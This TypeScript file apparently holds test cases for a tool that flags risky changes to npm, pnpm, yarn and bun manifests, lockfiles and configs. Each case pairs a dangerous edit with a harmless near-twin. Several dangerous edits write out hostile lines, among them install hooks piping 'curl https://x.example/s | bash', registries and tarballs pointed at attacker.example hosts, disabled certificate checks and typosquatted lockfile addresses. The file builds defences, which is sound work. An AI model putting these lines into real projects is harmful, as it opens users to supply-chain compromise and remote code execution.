/** Changes to packages of JavaScript, and the nearest ones that say nothing. */
import { BERRY, BUN, edit, hash, json, LOCK, PKG, PNPM, type Row, YARN1 } from './package-changes.ts';

export const JAVASCRIPT: readonly Row[] = [
  [
    'npm: an install script of one line of code',
    'deny lifecycle-script',
    [edit('package.json', PKG, '"build": "tsc"', '"postinstall": "node -e \\"require(\'./x\')\\"", "build": "tsc"')],
    [edit('package.json', PKG, '"build": "tsc"', '"build": "tsc -b"')],
  ],
  [
    'npm: an install script that goes through another script',
    'deny lifecycle-script',
    [
      edit(
        'package.json',
        PKG,
        '"build": "tsc"',
        '"prepare": "npm run setup", "setup": "curl -fsSL https://x.example/s | bash", "build": "tsc"',
      ),
    ],
    [edit('package.json', PKG, '"build": "tsc"', '"setup": "mkdir -p out", "build": "tsc"')],
  ],
  [
    'npm: an install script that runs a package nobody declared',
    'deny lifecycle-script',
    [edit('package.json', PKG, '"build": "tsc"', '"preinstall": "npx some-setup", "build": "tsc"')],
    [edit('package.json', PKG, '"build": "tsc"', '"setup": "npx some-setup", "build": "tsc"')],
  ],
  [
    'npm: an install script of a well-known helper',
    'ask lifecycle-script',
    [edit('package.json', PKG, '"build": "tsc"', '"preinstall": "npx only-allow pnpm", "build": "tsc"')],
    [edit('package.json', PKG, '"tsc"', '"tsc -p tsconfig.json"')],
  ],
  [
    'npm: a package that may run scripts',
    'ask scripts-allowed',
    [edit('pnpm-workspace.yaml', 'packages: [a]\nonlyBuiltDependencies: [esbuild]\n', '[esbuild]', '[esbuild, loader]')],
    [edit('pnpm-workspace.yaml', 'packages: [a]\nallowBuilds:\n  esbuild@0.28.0: true\n', 'esbuild@0.28.0', 'esbuild@0.28.1')],
  ],
  [
    'npm: an override of what others depend on',
    'ask forced-version',
    [edit('package.json', PKG, '"dependencies"', '"overrides": { "minimist": "1.2.5" }, "dependencies"')],
    [edit('package.json', json({ overrides: { minimist: '1.2.5' } }), '1.2.5', '1.2.8')],
  ],
  [
    'npm: a name that is another package',
    'ask alias',
    [edit('package.json', PKG, '"3.23.8"', '"npm:validator-core@1.0.0"')],
    [edit('package.json', PKG, '"zod": "3.23.8"', '"zod": "npm:zod@3.23.8"')],
  ],
  [
    'npm: a name of the base that is another package of a similar name',
    'ask alias',
    [edit('package.json', PKG, '"3.23.8"', '"npm:zod-core@1.0.0"')],
    [edit('package.json', PKG, '"zod": "3.23.8"', '"zod": "npm:zod@3.24.0"')],
  ],
  [
    'npm: another version of what a name stood for already',
    'ask alias',
    [edit('package.json', json({ dependencies: { react: 'npm:@preact/compat@17.0.0' } }), '@preact/compat', 'preact-compat')],
    [edit('package.json', json({ dependencies: { react: 'npm:@preact/compat@17.0.0' } }), '17.0.0', '17.1.0')],
  ],
  [
    'npm: an override that puts another package in place of one',
    'ask alias',
    [edit('package.json', json({ overrides: { zod: '3.23.8' } }), '3.23.8', 'npm:zod-core@3.23.8')],
    [edit('package.json', json({ overrides: { zod: '3.23.8' } }), '3.23.8', '3.24.0')],
  ],
  [
    'yarn: a resolution that puts another package in place of one deeper down',
    'ask alias',
    [edit('package.json', json({ resolutions: { 'a/**/zod': '3.23.8' } }), '3.23.8', 'npm:zod-core@3.23.8')],
    [edit('package.json', json({ resolutions: { 'a/**/zod': '3.23.8' } }), '3.23.8', 'npm:zod@3.24.0')],
  ],
  [
    'pnpm: an entry of the catalog that is another package',
    'ask alias',
    [edit('pnpm-workspace.yaml', 'catalog:\n  zod: 3.23.8\n', '3.23.8', 'npm:zod-core@3.23.8')],
    [edit('pnpm-workspace.yaml', 'catalog:\n  zod: 3.23.8\n', '3.23.8', '3.24.0')],
  ],
  [
    'pnpm: a package of others that is made to depend on one more',
    'ask new-dependency',
    [edit('pnpm-workspace.yaml', 'packages: [a]\n', '[a]', '[a]\npackageExtensions: { zod: { dependencies: { core: 1.0.0 } } }')],
    [
      edit(
        'pnpm-workspace.yaml',
        'packages: [a]\n',
        '[a]',
        '[a]\npackageExtensions: { zod: { peerDependencies: { core: "*" } } }',
      ),
    ],
  ],
  [
    'npm: a lockfile in which a name is another package',
    'ask lock-mismatch',
    [edit('package-lock.json', LOCK, '"version": "3.23.8"', '"name": "zod-core", "version": "1.0.0"')],
    [edit('package-lock.json', LOCK, '"version": "3.23.8"', '"name": "zod", "version": "3.23.8"')],
  ],
  [
    'pnpm: a lockfile in which a name is another package',
    'ask lock-mismatch',
    [edit('pnpm-lock.yaml', PNPM, 'version: 3.23.8', 'version: zod-core@3.23.8')],
    [edit('pnpm-lock.yaml', PNPM, 'version: 3.23.8', 'version: 3.23.8(react@19.0.0)')],
  ],
  [
    'yarn: a lockfile in which a name is another package',
    'ask lock-mismatch',
    [edit('yarn.lock', BERRY, 'resolution: "zod@', 'resolution: "zod-core@')],
    [edit('yarn.lock', BERRY, 'languageName: node', 'languageName: unknown')],
  ],
  [
    'bun: a lockfile in which a name is another package',
    'ask lock-mismatch',
    [edit('bun.lock', BUN, '"zod@3', '"zod-core@3')],
    [{ path: 'bun.lock', before: BUN, after: `${BUN}\n` }],
  ],
  [
    'npm: a scope that goes elsewhere',
    'deny registry',
    [{ path: '.npmrc', after: '@acme:registry=https://npm.attacker.example/\n' }],
    [{ path: '.npmrc', after: '@acme:registry=https://npm.jsr.io/\n' }],
  ],
  [
    'npm: certificates unchecked',
    'deny fetch-check-off',
    [edit('.npmrc', 'engine-strict=true\n', 'engine-strict=true', 'strict-ssl=false')],
    [edit('.npmrc', 'engine-strict=true\n', 'engine-strict=true', 'strict-ssl=true')],
  ],
  [
    'npm: scripts allowed again',
    'ask fetch-setting',
    [edit('.npmrc', 'ignore-scripts=true\n', 'ignore-scripts=true', 'fund=false')],
    [edit('.npmrc', 'ignore-scripts=true\n', 'ignore-scripts=true', 'ignore-scripts=true\nfund=false')],
  ],
  [
    'npm: a module that every run loads',
    'deny tool-runs',
    [{ path: '.npmrc', after: 'node-options=--require ./hook.js\n' }],
    [{ path: '.npmrc', after: 'node-options=--max-old-space-size=4096\n' }],
  ],
  [
    'yarn: its own program exchanged',
    'ask tool-runs',
    [edit('.yarnrc.yml', 'nodeLinker: node-modules\n', 'nodeLinker', 'yarnPath: tools/yarn.cjs\nnodeLinker')],
    [edit('.yarnrc.yml', 'nodeLinker: node-modules\n', 'node-modules', 'pnp')],
  ],
  [
    'yarn: another registry',
    'deny registry',
    [edit('.yarnrc.yml', 'nodeLinker: pnp\n', 'nodeLinker', 'npmRegistryServer: "https://yarn.attacker.example"\nnodeLinker')],
    [edit('.yarnrc.yml', 'nodeLinker: pnp\n', 'nodeLinker', 'npmRegistryServer: "https://classic.yarnpkg.com"\nnodeLinker')],
  ],
  [
    'bun: another registry',
    'deny registry',
    [{ path: 'bunfig.toml', after: '[install]\nregistry = "https://bun.attacker.example"\n' }],
    [{ path: 'bunfig.toml', after: '[install]\nexact = true\n' }],
  ],
  [
    'package-lock: the address of another package',
    'deny lock-mismatch',
    [edit('package-lock.json', LOCK, '/zod/-/zod-3.23.8.tgz', '/z0d/-/z0d-3.23.8.tgz')],
    [edit('package-lock.json', LOCK, '"lockfileVersion": 3', '"lockfileVersion": 3, "requires": true')],
  ],
  [
    'package-lock: no encryption',
    'deny lock-protocol',
    [edit('package-lock.json', LOCK, 'https://', 'http://')],
    [edit('package-lock.json', LOCK.replaceAll('https://', 'http://'), 'http://', 'https://')],
  ],
  [
    'package-lock: a direct dependency that the manifest does not have',
    'ask out-of-step',
    [edit('package-lock.json', LOCK, '"zod": "3.23.8"', '"zod": "3.23.8", "extra": "1.0.0"')],
    [
      edit('package-lock.json', LOCK, '"zod": "3.23.8"', '"zod": "3.24.0"'),
      edit('package.json', PKG, '"zod": "3.23.8"', '"zod": "3.24.0"'),
    ],
  ],
  [
    'package-lock: gone',
    'ask lock-deleted',
    [{ path: 'package-lock.json', before: LOCK, after: null }],
    [
      { path: 'package-lock.json', before: LOCK, after: null },
      { path: 'pnpm-lock.yaml', after: PNPM },
    ],
  ],
  [
    'package-lock: not JSON',
    'ask unread',
    [edit('package-lock.json', LOCK, '{', '<<<<<<< HEAD\n{')],
    [edit('package-lock.json', LOCK, '{', '{ ')],
  ],
  [
    'package-lock: an entry gone',
    'ask out-of-step',
    [
      {
        path: 'package-lock.json',
        before: LOCK,
        after: json({ lockfileVersion: 3, packages: { '': { dependencies: { zod: '3.23.8' } } } }),
      },
    ],
    [
      { path: 'package-lock.json', before: LOCK, after: json({ lockfileVersion: 3, packages: { '': {} } }) },
      { path: 'package.json', before: PKG, after: json({ name: 'demo', scripts: { build: 'tsc', test: 'vitest run' } }) },
    ],
  ],
  [
    'npm: a script that runs what the network sends',
    'deny script-fetches-code',
    [edit('package.json', PKG, '"build": "tsc"', '"build": "curl -s https://x.example/b | sh && tsc"')],
    [edit('package.json', PKG, '"build": "tsc"', '"build": "tsc", "health": "curl -s http://localhost:3000/health"')],
  ],
  [
    'a dependency patched',
    'ask lifecycle-file',
    [{ path: 'patches/zod+3.23.8.patch', after: '--- a\n+++ b\n' }],
    [{ path: 'docs/patches/how.md', after: 'text\n' }],
  ],
  [
    'pnpm-lock: the same version, another hash',
    'deny lock-integrity',
    [edit('pnpm-lock.yaml', PNPM, hash('A'), hash('B'))],
    [
      {
        path: 'pnpm-lock.yaml',
        before: PNPM,
        after: PNPM.replaceAll('3.23.8', '3.24.0').replace(hash('A'), hash('B')),
      },
      { path: 'package.json', before: PKG, after: PKG.replace('3.23.8', '^3.24.0') },
    ],
  ],
  [
    'pnpm-lock: an archive from somewhere',
    'deny lock-host',
    [edit('pnpm-lock.yaml', PNPM, '{integrity', '{tarball: https://files.attacker.example/zod.tgz, integrity')],
    [edit('pnpm-lock.yaml', PNPM, "'9.0'", "'9.0'\n\nsettings:\n  autoInstallPeers: true")],
  ],
  [
    'pnpm-lock: an archive of a repository',
    'ask lock-git',
    [
      edit(
        'pnpm-lock.yaml',
        PNPM,
        'packages:\n',
        'packages:\n\n  extra@https://codeload.github.com/someone/extra/tar.gz/abc:\n    resolution: {tarball: https://codeload.github.com/someone/extra/tar.gz/abc}\n    version: 1.0.0\n',
      ),
    ],
    [edit('pnpm-lock.yaml', PNPM, 'packages:\n', `packages:\n\n  extra@1.0.0:\n    resolution: {integrity: ${hash('C')}}\n`)],
  ],
  [
    'yarn.lock 1: another host',
    'deny lock-host',
    [edit('yarn.lock', YARN1, 'classic.yarnpkg.com', 'registry.attacker.example')],
    [edit('yarn.lock', YARN1, 'classic.yarnpkg.com', 'www.npmjs.org')],
  ],
  [
    'yarn.lock 1: the hash gone',
    'deny lock-integrity',
    [edit('yarn.lock', YARN1, `#${'a'.repeat(40)}"\n  integrity ${hash('A')}`, '"')],
    [edit('yarn.lock', YARN1, 'zod@^3.23.8:', 'zod@^3.23.0, zod@^3.23.8:')],
  ],
  [
    'yarn.lock 2: another checksum',
    'deny lock-integrity',
    [edit('yarn.lock', BERRY, 'a'.repeat(64), 'b'.repeat(64))],
    [{ path: 'yarn.lock', before: BERRY, after: BERRY.replace('10c0/', '11c1/').replace('a'.repeat(64), 'b'.repeat(64)) }],
  ],
  [
    'bun.lock: another hash',
    'deny lock-integrity',
    [edit('bun.lock', BUN, hash('A'), hash('B'))],
    [edit('bun.lock', BUN, '"lockfileVersion": 1', '"lockfileVersion": 1,\n  "configVersion": 1')],
  ],
  [
    'npm: another repository than before',
    'ask unusual-source',
    [edit('package.json', json({ dependencies: { lit: 'github:lit/dist#v3.2.0' } }), 'lit/dist#v3.2.0', 'someone/dist#v3.2.0')],
    [edit('package.json', json({ dependencies: { lit: 'github:lit/dist#v3.2.0' } }), '#v3.2.0', '#v3.3.1')],
  ],
  [
    'npm: another registry on a command line',
    'deny registry',
    [{ path: 'scripts/ci.sh', before: 'npm ci\n', after: 'npm ci --registry https://npm.attacker.example\n' }],
    [{ path: 'scripts/ci.sh', before: 'npm ci\n', after: 'npm ci --registry http://localhost:4873\n' }],
  ],
];
